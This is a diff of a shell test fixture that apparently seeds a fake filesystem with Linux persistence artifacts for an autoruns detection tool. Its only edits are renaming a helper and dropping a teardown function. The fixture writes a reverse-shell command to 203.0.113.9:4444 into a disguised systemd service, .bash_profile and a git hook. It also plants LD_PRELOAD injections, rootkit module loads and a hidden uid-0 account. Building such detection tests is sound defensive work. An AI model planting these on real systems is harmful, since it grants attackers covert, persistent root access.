@@ -7,8 +7,8 @@
 
 shell_net='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
 
-# put PATH MODE: standard input becomes a file of the root
-put() {
+# place PATH MODE: standard input becomes a file of the root
+place() {
 	mkdir -p "$root/$(dirname "$1")"
 	cat >"$root/$1"
 	chmod "$2" "$root/$1"
@@ -18,11 +18,11 @@ script() { # PATH [line...]: an executable script
 	{
 		echo '#!/bin/sh'
 		[ $# -lt 2 ] || printf '%s\n' "${@:2}"
-	} | put "$1" 755
+	} | place "$1" 755
 }
 
 elf() { # PATH
-	printf '\177ELF\2\1\1' | cat - /dev/zero | head -c 512 | put "$1" 755
+	printf '\177ELF\2\1\1' | cat - /dev/zero | head -c 512 | place "$1" 755
 }
 
 link() { # TARGET PATH
@@ -31,7 +31,7 @@ link() { # TARGET PATH
 }
 
 units() {
-	put usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service \
+	place usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service \
 		644 <<-EOT
 		[Service]
 		ExecStart=/usr/bin/bash -c '$shell_net'
@@ -39,7 +39,7 @@ units() {
 		[Install]
 		WantedBy=multi-user.target
 	EOT
-	put usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer \
+	place usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer \
 		644 <<-EOT
 		[Timer]
 		OnCalendar=*:*:00
@@ -48,7 +48,7 @@ units() {
 	EOT
 	link /usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer \
 		etc/systemd/system/timers.target.wants/dbus-org.freedesktop.resolved.timer
-	put etc/systemd/system/off.service 644 <<-EOT
+	place etc/systemd/system/off.service 644 <<-EOT
 		[Service]
 		ExecStartPre=/opt/pre
 		ExecStart=/opt/off
@@ -56,7 +56,7 @@ units() {
 		[Install]
 		WantedBy=multi-user.target
 	EOT
-	put home/hana/.config/systemd/user/mine.service 644 <<-EOT
+	place home/hana/.config/systemd/user/mine.service 644 <<-EOT
 		[Service]
 		ExecStart=/home/hana/.local/bin/mine
 		[Install]
@@ -64,33 +64,33 @@ units() {
 	EOT
 	link ../mine.service \
 		home/hana/.config/systemd/user/default.target.wants/mine.service
-	put etc/systemd/system/ssh.service.d/post.conf 644 <<-EOT
+	place etc/systemd/system/ssh.service.d/post.conf 644 <<-EOT
 		[Service]
 		ExecStartPost=/opt/post
 		Environment="LD_PRELOAD=/usr/lib/evil.so"
 	EOT
-	put etc/systemd/system/service.d/all.conf 644 <<-EOT
+	place etc/systemd/system/service.d/all.conf 644 <<-EOT
 		[Service]
 		ExecStopPost=/opt/all
 	EOT
-	put etc/systemd/system/knock.socket 644 <<-EOT
+	place etc/systemd/system/knock.socket 644 <<-EOT
 		[Socket]
 		ListenStream=31337
 		Service=off.service
 		[Install]
 		WantedBy=sockets.target
 	EOT
-	put etc/systemd/system/watch.path 644 <<-EOT
+	place etc/systemd/system/watch.path 644 <<-EOT
 		[Path]
 		PathModified=/etc/passwd
 		Unit=off.service
 	EOT
-	put etc/systemd/system/srv-x.mount 644 <<-EOT
+	place etc/systemd/system/srv-x.mount 644 <<-EOT
 		[Mount]
 		What=/opt/x.img
 		Where=/srv/x
 	EOT
-	put etc/systemd/system/srv-x.automount 644 <<-EOT
+	place etc/systemd/system/srv-x.automount 644 <<-EOT
 		[Automount]
 		Where=/srv/x
 	EOT
@@ -107,14 +107,14 @@ units() {
 		home/hana/.local/share/systemd/user; do
 		name=$(printf %s "$in" | tr -c 'a-z0-9\n' _)
 		printf '[Service]\nExecStart=/opt/%s\n' "$name" |
-			put "$in/in_$name.service" 644
+			place "$in/in_$name.service" 644
 	done
-	put etc/containers/systemd/pod.container 644 <<-EOT
+	place etc/containers/systemd/pod.container 644 <<-EOT
 		[Container]
 		Image=docker.io/library/alpine
 		Exec=/bin/sh -c "/opt/pod"
 	EOT
-	put etc/systemd/system.conf.d/env.conf 644 <<-EOT
+	place etc/systemd/system.conf.d/env.conf 644 <<-EOT
 		[Manager]
 		DefaultEnvironment=LD_PRELOAD=/usr/lib/all.so
 	EOT
@@ -156,8 +156,8 @@ programs() {
 	for when in up down pre-up post-down; do
 		script etc/network/if-$when.d/x
 	done
-	echo 'true' | put etc/dhcp/dhclient-enter-hooks.d/x 644
-	echo 'true' | put etc/dhcp/dhclient-exit-hooks.d/x 644
+	echo 'true' | place etc/dhcp/dhclient-enter-hooks.d/x 644
+	echo 'true' | place etc/dhcp/dhclient-exit-hooks.d/x 644
 	script etc/ppp/ip-up.d/x
 	script usr/lib/systemd/system-sleep/x
 	elf usr/lib/systemd/system-shutdown/x
@@ -183,91 +183,91 @@ programs() {
 }
 
 people() {
-	echo 'true' | put etc/profile.d/x.sh 644
-	echo "($shell_net &)" | put home/hana/.bash_profile 644
-	echo 'true' | put etc/X11/Xsession.d/60x 644
+	echo 'true' | place etc/profile.d/x.sh 644
+	echo "($shell_net &)" | place home/hana/.bash_profile 644
+	echo 'true' | place etc/X11/Xsession.d/60x 644
 	script etc/X11/xinit/xinitrc.d/x
-	echo '/opt/x &' | put home/hana/.xsessionrc 644
+	echo '/opt/x &' | place home/hana/.xsessionrc 644
 	script home/hana/.config/autostart-scripts/x
 	script home/hana/.config/plasma-workspace/env/x.sh
-	put etc/xdg/autostart/pkc12-register.desktop 644 <<-EOT
+	place etc/xdg/autostart/pkc12-register.desktop 644 <<-EOT
 		[Desktop Entry]
 		Type=Application
 		Name=pkc12-register
 		Exec=/etc/xdg/pkc12-register
 	EOT
-	put home/hana/.config/autostart/user-dirs.desktop 644 <<-EOT
+	place home/hana/.config/autostart/user-dirs.desktop 644 <<-EOT
 		[Desktop Entry]
 		Name=user-dirs
 		Exec=/home/hana/.config/autostart/.user-dirs
 	EOT
-	put home/hana/.config/autostart/gone.desktop 644 <<-EOT
+	place home/hana/.config/autostart/gone.desktop 644 <<-EOT
 		[Desktop Entry]
 		Exec=/usr/bin/gone
 		Hidden=true
 	EOT
-	put usr/share/gnome/autostart/g.desktop 644 <<-EOT
+	place usr/share/gnome/autostart/g.desktop 644 <<-EOT
 		[Desktop Entry]
 		Exec=/opt/g
 	EOT
-	put home/hana/.local/share/applications/vim.desktop 644 <<-EOT
+	place home/hana/.local/share/applications/vim.desktop 644 <<-EOT
 		[Desktop Entry]
 		Exec=/opt/vim
 	EOT
-	echo | put usr/share/applications/vim.desktop 644
+	echo | place usr/share/applications/vim.desktop 644
 	elf home/hana/.config/autostart/.user-dirs
 	script home/hana/src/app/.git/hooks/pre-commit "$shell_net"
 	elf srv/git/x.git/hooks/update
 	script home/hana/src/app/.git/hooks/pre-push.sample
-	put home/hana/src/app/.git/config 644 <<-EOT
+	place home/hana/src/app/.git/config 644 <<-EOT
 		[core]
 			fsmonitor = /opt/fsmonitor
 			hooksPath = /opt/hooks
 	EOT
 	printf '[core]\n\tpager = nohup setsid /opt/pager & ${PAGER:-less}\n' |
-		put home/hana/.gitconfig 644
+		place home/hana/.gitconfig 644
 }
 
 tables() {
-	put usr/share/dbus-1/system-services/org.panix.service 644 <<-EOT
+	place usr/share/dbus-1/system-services/org.panix.service 644 <<-EOT
 		[D-BUS Service]
 		Name=org.panix
 		Exec=/usr/local/bin/dbus-panix.sh
 		User=root
 	EOT
-	put home/hana/.local/share/dbus-1/services/org.mine.service 644 <<-EOT
+	place home/hana/.local/share/dbus-1/services/org.mine.service 644 <<-EOT
 		[D-BUS Service]
 		Name=org.mine
 		Exec=/opt/mine
 	EOT
-	put etc/dbus-1/system.d/org.panix.conf 644 <<-EOT
+	place etc/dbus-1/system.d/org.panix.conf 644 <<-EOT
 		<busconfig><policy context="default">
 		<allow own="org.panix"/></policy></busconfig>
 	EOT
-	put etc/udev/rules.d/10-sedexp.rules 644 <<-EOT
+	place etc/udev/rules.d/10-sedexp.rules 644 <<-EOT
 		ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sedexp"
 		SUBSYSTEM=="net", KERNEL!="lo", PROGRAM="/opt/p", IMPORT{program}="/opt/i"
 		SUBSYSTEM=="usb", ENV{SYSTEMD_WANTS}="off.service"
 	EOT
-	put run/udev/rules.d/11-x.rules 644 <<-EOT
+	place run/udev/rules.d/11-x.rules 644 <<-EOT
 		SUBSYSTEM=="net", RUN+="/usr/bin/at -M -f /opt/at now"
 	EOT
 	echo 'install vfat /bin/sh -c "/opt/vfat"' |
-		put etc/modprobe.d/x.conf 644
-	echo 'softdep a pre: b' | put usr/lib/modprobe.d/y.conf 644
-	echo panix | put etc/modules-load.d/panix.conf 644
-	echo diamorphine | put etc/modules 644
-	echo panix | put usr/lib/modules-load.d/panix.conf 644
-	printf ':x:M::MZ::/opt/interp:OC\n' | put etc/binfmt.d/x.conf 644
-	echo 'L+ /usr/bin/ls - - - - /opt/ls' | put etc/tmpfiles.d/x.conf 644
-	echo 'export LD_PRELOAD="/usr/lib/e.so"' | put etc/default/ssh 644
+		place etc/modprobe.d/x.conf 644
+	echo 'softdep a pre: b' | place usr/lib/modprobe.d/y.conf 644
+	echo panix | place etc/modules-load.d/panix.conf 644
+	echo diamorphine | place etc/modules 644
+	echo panix | place usr/lib/modules-load.d/panix.conf 644
+	printf ':x:M::MZ::/opt/interp:OC\n' | place etc/binfmt.d/x.conf 644
+	echo 'L+ /usr/bin/ls - - - - /opt/ls' | place etc/tmpfiles.d/x.conf 644
+	echo 'export LD_PRELOAD="/usr/lib/e.so"' | place etc/default/ssh 644
 	echo 'enable evil.service' |
-		put etc/systemd/system-preset/00-x.preset 644
-	: | put var/lib/systemd/linger/hana 644
-	echo 'u toor 0 "x" /root /bin/bash' | put etc/sysusers.d/x.conf 644
+		place etc/systemd/system-preset/00-x.preset 644
+	: | place var/lib/systemd/linger/hana 644
+	echo 'u toor 0 "x" /root /bin/bash' | place etc/sysusers.d/x.conf 644
 	printf 'event=button.*\naction=/opt/acpi %%e\n' |
-		put etc/acpi/events/x 644
-	put var/lib/cloud/instance/user-data.txt 644 <<-EOT
+		place etc/acpi/events/x 644
+	place var/lib/cloud/instance/user-data.txt 644 <<-EOT
 		#cloud-config
 		bootcmd:
 		  - /opt/bootcmd
@@ -281,7 +281,7 @@ tables() {
 	script opt/away.service
 	link /opt/app/app.service etc/systemd/system/app.service
 	printf '[Service]\nExecStart=/opt/app/run\n' |
-		put opt/app/app.service 644
+		place opt/app/app.service 644
 }
 
 setup_file() {
@@ -315,10 +315,6 @@ setup_file() {
 			"$dir/events.$how" \
 			>"$dir/autoruns.$how"
 	done
-}
-
-teardown_file() {
-	finish
 }
 
 setup() {
